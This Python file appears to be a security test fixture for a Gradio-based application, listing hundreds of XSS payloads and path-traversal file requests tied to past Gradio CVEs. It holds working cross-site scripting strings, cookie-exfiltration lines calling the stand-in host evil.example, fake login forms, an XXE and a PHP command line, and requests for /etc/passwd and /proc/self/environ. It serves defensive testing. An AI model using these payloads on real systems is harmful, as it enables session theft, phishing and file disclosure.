"""What an attacker puts into documents, names and requests: cross-site scripting, exfiltration, access to files."""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import quote

EVIL = "https://evil.example"


@dataclass(frozen=True)
class Payload:
    name: str
    text: str


@dataclass(frozen=True)
class FileRequest:
    """A request for a planted file. `path` and `body` hold {file}, its path, and {bare}, the same without a slash."""

    name: str
    path: str
    encode: Callable[[str], str] = str
    method: str = "GET"
    headers: tuple[tuple[str, str], ...] = ()
    body: str = ""

    def target(self, planted: Path) -> str:
        """The request's target for a planted file, as it is put on the wire."""
        return self.path.format(file=self.encode(str(planted)), bare=self.encode(str(planted).lstrip("/")))

    def sent(self, planted: Path) -> bytes | None:
        """The request's body for a planted file."""
        return self.body.replace("{file}", str(planted)).encode() if self.body else None


def _named(kind: str, *texts: str) -> tuple[Payload, ...]:
    return tuple(Payload(f"{kind}-{number}", text) for number, text in enumerate(texts, start=1))


SCRIPTS = _named(
    "script",
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script src=//evil.example/x.js>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x20type='text/javascript'>alert(1);</script>",
    "<script/anything>alert(1)</script>",
    "<<script>alert(1);//\\<</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</article></div></body><script>alert(1)</script>",
    "<script type=module>import('https://evil.example/x.js')</script>",
    "<script>fetch('https://evil.example/?c='+document.cookie)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<script\n>alert(1)</script\n>",
    "<ſcript>alert(1)</ſcript>",
)
HANDLERS = _named(
    "handler",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)'//",
    '<img """><script>alert(1)</script>">',
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x\tonerror\x0c=\x0calert(1)>",
    "<body onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div onpointerover=alert(1) style='position:fixed;inset:0'>x</div>",
    "<a autofocus tabindex=1 onfocus=alert(1)>x</a>",
    "<p style='animation-name:x' onanimationstart=alert(1)>x</p>",
    "' onmouseover='alert(1)",
    '" onmouseover="alert(1)',
    "'><img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "` onmouseover=`alert(1)",
    "x' autofocus onfocus='alert(1)' x='",
)
IMAGES = _named(
    "image",
    "![x](https://evil.example/x.png?q=secret)",
    "![x](//evil.example/x.png)",
    "![x](http://127.0.0.1:9/x.png)",
    "![x][1]\n\n[1]: https://evil.example/x.png",
    "![x](<https://evil.example/x.png>)",
    '![x](https://evil.example/x.png "title")',
    "![](https&colon;//evil.example/x.png)",
    "![x\\](https://evil.example/x.png)",
    "[![x](https://evil.example/x.png)](https://evil.example)",
    "<img src=https://evil.example/x.png?q=secret>",
    "<img srcset='https://evil.example/x.png 1x'>",
    "<picture><source srcset=https://evil.example/x.png><img src=y></picture>",
    "<img src='/gradio_api/file=/etc/passwd'>",
    "![x](/gradio_api/file=/etc/passwd)",
    "<input type=image src=https://evil.example/x.png>",
    "<video poster=https://evil.example/x.png></video>",
    "<image href=https://evil.example/x.png>",
    '<img loading=eager src="https://evil.example/${document.cookie}">',
)
STYLES = _named(
    "style",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(https://evil.example/x.png)}</style>",
    "<style>input[value^=a]{background:url(https://evil.example/a)}</style>",
    "<div style=\"background:url('https://evil.example/x.png')\">x</div>",
    "<div style='position:fixed;inset:0;background:#fff;z-index:9999'>Log in again</div>",
    '<p style="width:expression(alert(1))">x</p>',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=preload as=image href=https://evil.example/x.png>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<font face='x' color=red>x</font>",
    "<table background=https://evil.example/x.png><tr><td>x</table>",
    "</style><img src=x onerror=alert(1)>",
    "<style>@font-face{font-family:x;src:url(https://evil.example/x.woff)}</style>",
)
LINKS = _named(
    "link",
    "[click](https://evil.example/?q=1)",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "[click](<javascript:alert(1)>)",
    "[click](//evil.example)",
    "[click][evil]\n\n[evil]: https://evil.example",
    "[evil]: https://evil.example\n\n[evil]",
    "[click][]\n\n[click]: javascript:alert(1) 'x'",
    "<https://evil.example>",
    "<javascript:alert(1)>",
    "<mailto:a@evil.example>",
    "https://evil.example/?q=secret",
    "http://evil.example.",
    "www.evil.example",
    "WWW.EVIL.EXAMPLE/x",
    "ftp://evil.example/x",
    "a@evil.example",
    "<a href=https://evil.example>click</a>",
    "<a href=javascript:alert(1)>click</a>",
    "<a href='\x01javascript:alert(1)'>click</a>",
    "<a href=data:text/html,<script>alert(1)</script>>click</a>",
    "<a href=https://evil.example ping=https://evil.example/p download>click</a>",
    "<base href=https://evil.example/>",
    "<area href=https://evil.example>",
    "[click](file:///etc/passwd)",
    "[click](blob:https://evil.example/1)",
)
FRAMES = _named(
    "frame",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<embed src=https://evil.example/x.swf>",
    "<object data=https://evil.example/x.html></object>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,x'>",
    "<meta http-equiv=Set-Cookie content='footnote-session=x'>",
    "<portal src=https://evil.example></portal>",
    "<dialog open style='position:fixed'>Log in</dialog>",
)
FORMS = _named(
    "form",
    "<form action=https://evil.example><input type=password name=p><button>Log in</button></form>",
    "<form><button formaction=https://evil.example>Log in</button></form>",
    "<form action=javascript:alert(1)><input type=submit>",
    "<form action=/logout method=post><button>Next</button></form>",
    "<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>",
    "<input name=body><input name=cookie>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
)
VECTORS = _named(
    "vector",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=alert(1)></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=\"http://www.w3.org/2000/svg\"/>#x'/></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><image href=https://evil.example/x.png /></svg>",
    "<svg><style>@import 'https://evil.example/x.css';</style></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>",
    "<svg><title><img src=x onerror=alert(1)></title></svg>",
)
TEMPLATES = _named(
    "template",
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(document.cookie)}",
    "{@html '<img src=x onerror=alert(1)>'}",
    "{{ config.items() }}",
    "{% include '/etc/passwd' %}",
    "[[${7*7}]]",
    "%{(#a='x')}",
    "{value}{{value}}${value}",
    "<template><script>alert(1)</script></template>",
    "<slot onslotchange=alert(1)>",
)
LATEX = _named(
    "latex",
    "$\\href{javascript:alert(1)}{x}$",
    "$$\\url{https://evil.example}$$",
    "\\(\\includegraphics{https://evil.example/x.png}\\)",
    "\\[\\htmlData{x=y}{z}\\]",
    "$\\input{/etc/passwd}$",
    "$$<img src=x onerror=alert(1)>$$",
)
HIDDEN = _named(
    "hidden",
    "<!-- <script>alert(1)</script> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php system('id') ?>",
    "<\x00script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img src=x\x00 onerror=alert(1)>",
    "\u202e<img src=x onerror=alert(1)>\u202c",
    "\u202e)gnp.x/elpmaxe.live//:sptth(]x[!",
    "\u2066[click](https://evil.example)\u2069",
    "﹤script﹥alert(1)﹤/script﹥",
    "＜script＞alert(1)＜/script＞",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
    "\\<script>alert(1)\\</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\u200b<script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)
FOOTNOTES = _named(
    "footnote",
    "[1](#cite-0-0)",
    "[1]",
    "It is so. [1] It is not. [2]",
    "[1](#cite-99-99)",
    "[read](#passage-0-0)",
    "<a class=note href='#cite-0-0'>1</a>",
    "[1]: #cite-0-0\n\n[1]",
    "[^1]\n\n[^1]: https://evil.example",
    '[1](#cite-0-0 "x")',
    "[<b>1</b>](#cite-0-0)",
    "<mark id='cited'>not cited</mark>",
    "<button type='button' class='back'>Back to answer</button>",
)
MARKUP = _named(
    "markup",
    "# heading\n- item\n1. item\n> quote\n```html\n<script>alert(1)</script>\n```",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "``` <img src=x onerror=alert(1)>",
    "    <script>alert(1)</script>",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](https://evil.example) |",
    "x\n===\ny\n---",
    "~~~\n<script>alert(1)</script>\n~~~",
    "***<script>alert(1)</script>***",
    "<table><tr><td onclick=alert(1)>x</td></tr></table>",
    "<div>\n\n<script>alert(1)</script>\n\n</div>",
    "- [ ] <img src=x onerror=alert(1)>",
)  # fmt: skip

XSS = (
    *SCRIPTS,
    *HANDLERS,
    *IMAGES,
    *STYLES,
    *LINKS,
    *FRAMES,
    *FORMS,
    *VECTORS,
    *TEMPLATES,
    *LATEX,
    *HIDDEN,
    *FOOTNOTES,
    *MARKUP,
)

# By the classes of what was once possible in Gradio, each in five spellings.
_CLASSES = {
    "file-route": "/gradio_api/file={file}",  # CVE-2023-51449, 2024-1561
    "old-file-route": "/file={file}",  # CVE-2024-6572
    "file-path-route": "/gradio_api/file/{bare}",  # CVE-2024-1728
    "dots-in-file": "/gradio_api/file=../../../../../../../../{bare}",  # CVE-2024-47164
    "dots-in-static": "/static/../../../../../../../../../../{bare}",  # CVE-2024-47166
    "dots-in-assets": "/assets/../../../../../../../../../../{bare}",  # CVE-2024-51751
    "component-file": "/gradio_api/custom_component/x/client/component/../../../../../../../{bare}",  # CVE-2024-4941
    "proxy": "/gradio_api/proxy=http://127.0.0.1/{bare}",  # CVE-2024-2206, 2024-47167, 2026-28416
    "file-url": "/gradio_api/file=file://{file}",  # CVE-2024-4325
    "case": "/GRADIO_API/FILE={file}",  # CVE-2025-23042
    "svelte": "/svelte/../../../../../../../../{bare}",  # CVE-2026-28414
    "stream": "/gradio_api/stream/x/y/../../../../../../../{bare}",  # CVE-2025-48889
}
_SPELLINGS: dict[str, Callable[[str], str]] = {
    "plain": quote,
    "percent": lambda path: "".join(f"%{byte:02x}" for byte in path.encode()),
    "twice": lambda path: quote(quote(path, safe=""), safe=""),
    "backslash": lambda path: quote(path.replace("/", "\\"), safe=""),
    "overlong": lambda path: path.replace("/", "%c0%af"),
}


def _posted(name: str, path: str, payload: object) -> FileRequest:
    headers = (("Content-Type", "application/json"),)
    return FileRequest(name, path, method="POST", headers=headers, body=json.dumps(payload))


_FILE = {"path": "{file}", "meta": {"_type": "gradio.FileData"}}
_URL = {"path": "x", "url": "file://{file}", "meta": {"_type": "gradio.FileData"}}

FILE_REQUESTS = (
    *(
        FileRequest(f"{kind}-{spelling}", path, encode)
        for kind, path in _CLASSES.items()
        for spelling, encode in _SPELLINGS.items()
    ),
    FileRequest("foreign-host", "/gradio_api/file={file}", headers=(("Host", "evil.example"),)),
    FileRequest("foreign-origin", "/gradio_api/file={file}", headers=(("Origin", EVIL),)),
    FileRequest("forwarded-host", "/gradio_api/file={file}", headers=(("X-Forwarded-Host", "evil.example"),)),
    FileRequest("first-bytes", "/gradio_api/file={file}", headers=(("Range", "bytes=0-10"),)),
    FileRequest("many-ranges", "/gradio_api/file={file}", headers=(("Range", "bytes=" + "0-1," * 500 + "0-1"),)),
    FileRequest("last-bytes", "/gradio_api/file={file}", headers=(("Range", "bytes=-11"),)),
    FileRequest("head", "/gradio_api/file={file}", method="HEAD"),
    FileRequest("nul", "/gradio_api/file={file}%00.txt"),
    FileRequest("query", "/gradio_api/file={file}?x=.png"),
    FileRequest("semicolon", "/gradio_api/file=;{file}"),
    FileRequest("environment", "/gradio_api/file=/proc/self/environ"),
    FileRequest("working-folder", "/gradio_api/file=/proc/self/cwd/pyproject.toml"),
    FileRequest("passwords", "/gradio_api/file=/etc/passwd"),
    FileRequest("deep-link", "/?deep_link=../../../../../../{bare}"),
    FileRequest("theme", "/theme.css/..%2f..%2f..%2f..%2f..%2f{bare}"),
    _posted("event-path", "/gradio_api/run/predict", {"data": [_FILE], "fn_index": 1, "session_hash": "x"}),
    _posted("event-url", "/gradio_api/run/predict", {"data": [_URL], "fn_index": 1, "session_hash": "x"}),
    _posted("text-event-path", "/gradio_api/run/predict", {"data": [_FILE], "fn_index": 0, "session_hash": "x"}),
    _posted("queued-path", "/gradio_api/queue/join", {"data": [[_FILE]], "fn_index": 1, "session_hash": "y"}),
    _posted("queued-url", "/gradio_api/queue/join", {"data": [[_URL]], "fn_index": 1, "session_hash": "y"}),
    _posted(
        "component-server",
        "/gradio_api/component_server",
        {"component_id": 1, "fn_name": "move_resource_to_block_cache", "data": "{file}", "session_hash": "x"},
    ),
    _posted("call-path", "/gradio_api/call/str", {"data": [_FILE]}),
    _posted("call-by-name", "/gradio_api/call/v2/str", {"file": _FILE}),
    _posted("process-recording", "/gradio_api/process_recording", {"path": "{file}"}),
)
